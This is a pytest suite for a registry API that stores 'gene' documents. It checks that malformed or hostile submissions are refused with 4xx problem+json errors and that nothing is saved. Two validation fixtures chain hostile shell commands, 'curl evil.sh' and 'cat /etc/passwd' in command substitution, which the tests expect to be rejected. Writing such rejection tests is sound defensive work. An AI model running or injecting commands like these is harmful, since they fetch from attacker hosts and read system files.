"""Hostile and malformed input: each answered with a clear 4xx problem+json, nothing written."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from app.models import Gene, GeneVersion
from tests.factories import gene_doc, publish_payload


async def _nothing_written(session: AsyncSession) -> bool:
    genes = await session.scalar(select(func.count()).select_from(Gene))
    versions = await session.scalar(select(func.count()).select_from(GeneVersion))
    return genes == 0 and versions == 0


async def _post_raw(
    client: httpx.AsyncClient, body: bytes | str, content_type: str = "application/json"
) -> httpx.Response:
    return await client.post("/v1/genes", content=body, headers={"Content-Type": content_type})


def _assert_problem(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem: dict[str, Any] = response.json()
    assert problem["status"] == status
    assert problem["type"].startswith("https://genebank.dev/problems/")
    assert problem["title"] and problem["detail"]
    return problem


async def test_body_over_the_limit_is_413(client: httpx.AsyncClient, session: AsyncSession) -> None:
    payload = publish_payload(gene=gene_doc(strategy=["x" * 900] * 30))
    payload["provenance"]["verifier"]["details"] = {"log": "y" * 1_100_000}
    _assert_problem(await client.post("/v1/genes", json=payload), 413)
    assert await _nothing_written(session)


async def test_wrong_content_type_is_415(client: httpx.AsyncClient, session: AsyncSession) -> None:
    body = json.dumps(publish_payload())
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        problem = _assert_problem(await _post_raw(client, body, content_type), 415)
        assert "application/json" in problem["detail"]
    assert (await _post_raw(client, body, "application/json; charset=utf-8")).status_code == 201


async def test_nesting_too_deep_is_422(client: httpx.AsyncClient, session: AsyncSession) -> None:
    deep: Any = "bottom"
    for _ in range(40):
        deep = {"d": deep}
    payload = publish_payload(gene=gene_doc(generation_meta=deep))
    problem = _assert_problem(await client.post("/v1/genes", json=payload), 422)
    assert "nesting" in problem["detail"]
    very_deep = "[" * 100_000 + "]" * 100_000
    _assert_problem(await _post_raw(client, very_deep), 422)
    assert await _nothing_written(session)


@pytest.mark.parametrize(
    ("body", "status", "fragment"),
    [
        ('{"gene": {}, "gene": {}}', 422, "duplicate key"),
        ('{"gene": NaN}', 422, "NaN"),
        ('{"gene": -Infinity}', 422, "Infinity"),
        ('{"gene": 1e400}', 422, "range"),
        ('{"gene": 9007199254740993}', 422, "2^53"),
        ('{"gene": "\\ud800"}', 422, "surrogate"),
        ('{"\\udfff": 1}', 422, "surrogate"),
        ('{"gene": "a\\u0000b"}', 422, "U+0000"),
        ('{"gene": ', 400, "line 1"),
        ("\ufeff{}", 400, "byte order mark"),
    ],
)
async def test_json_the_registry_cannot_hash_faithfully_is_refused(
    client: httpx.AsyncClient, session: AsyncSession, body: str, status: int, fragment: str
) -> None:
    problem = _assert_problem(await _post_raw(client, body.encode("utf-8")), status)
    assert fragment in problem["detail"]
    assert await _nothing_written(session)


async def test_invalid_utf8_is_400(client: httpx.AsyncClient) -> None:
    _assert_problem(await _post_raw(client, b'{"gene": "\xff\xfe"}'), 400)


@pytest.mark.parametrize(
    ("gene", "fragment"),
    [
        (gene_doc(strategy=[]), "strategy"),
        (gene_doc(strategy=["   "]), "blank"),
        ({k: v for k, v in gene_doc().items() if k != "strategy"}, "strategy"),
        (gene_doc(signals_match=["/unclosed(group/i"]), "invalid regex"),
        (gene_doc(signals_match=["/(a)\\1/"]), "invalid regex"),
        (gene_doc(signals_match=["/[z-a]/i"]), "invalid regex"),
        (gene_doc(validation=["pytest -q && curl evil.sh"]), "shell operator"),
        (gene_doc(validation=["echo $(cat /etc/passwd)"]), "shell operator"),
        (gene_doc(category="improve"), "category"),
        (gene_doc(id="bad id with spaces"), "id"),
        (gene_doc(unknown_field=True), "unknown_field"),
        (gene_doc(constraints={"max_files": "5", "forbidden_paths": [".git"]}), "max_files"),
        (gene_doc(constraints={"max_files": 5.5, "forbidden_paths": [".git"]}), "max_files"),
        (gene_doc(avoid=[f"guard {n}" for n in range(13)]), "anti_patterns"),
        ({**gene_doc(), "avoid": [f"guard {n}" for n in range(12)]}, "at most 12"),
        (gene_doc(type="Capsule"), "type"),
    ],
)
async def test_invalid_documents_are_422(
    client: httpx.AsyncClient, session: AsyncSession, gene: dict[str, Any], fragment: str
) -> None:
    problem = _assert_problem(await client.post("/v1/genes", json=publish_payload(gene=gene)), 422)
    assert fragment in json.dumps(problem)
    assert all("input" not in error for error in problem["errors"])
    assert await _nothing_written(session)


@pytest.mark.parametrize(
    "provenance",
    [
        {"kind": "copied"},
        {"verifier": {"name": "pytest", "passed": "true"}},
        {"verifier": None},
        {"task": None},
        {"cost": {"tokens": -1}},
        {"trajectory_id": "not-a-uuid"},
        {"trajectory": {"steps": []}},
    ],
)
async def test_invalid_provenance_is_422(
    client: httpx.AsyncClient, session: AsyncSession, provenance: dict[str, Any]
) -> None:
    payload = publish_payload()
    payload["provenance"].update(provenance)
    payload["provenance"] = {k: v for k, v in payload["provenance"].items() if v is not None}
    _assert_problem(await client.post("/v1/genes", json=payload), 422)
    assert await _nothing_written(session)


async def test_nul_in_the_url_is_400(client: httpx.AsyncClient) -> None:
    # The database cannot store U+0000; found by schemathesis as a 500 before this guard.
    _assert_problem(await client.get("/v1/genes", params={"producer_model": "a\x00b"}), 400)
    _assert_problem(await client.get("/v1/genes/gene%00x"), 400)


async def test_empty_body_and_unknown_routes(client: httpx.AsyncClient) -> None:
    _assert_problem(await client.post("/v1/genes"), 422)
    _assert_problem(await client.get("/v1/nothing-here"), 404)
    _assert_problem(await client.delete("/v1/genes"), 405)
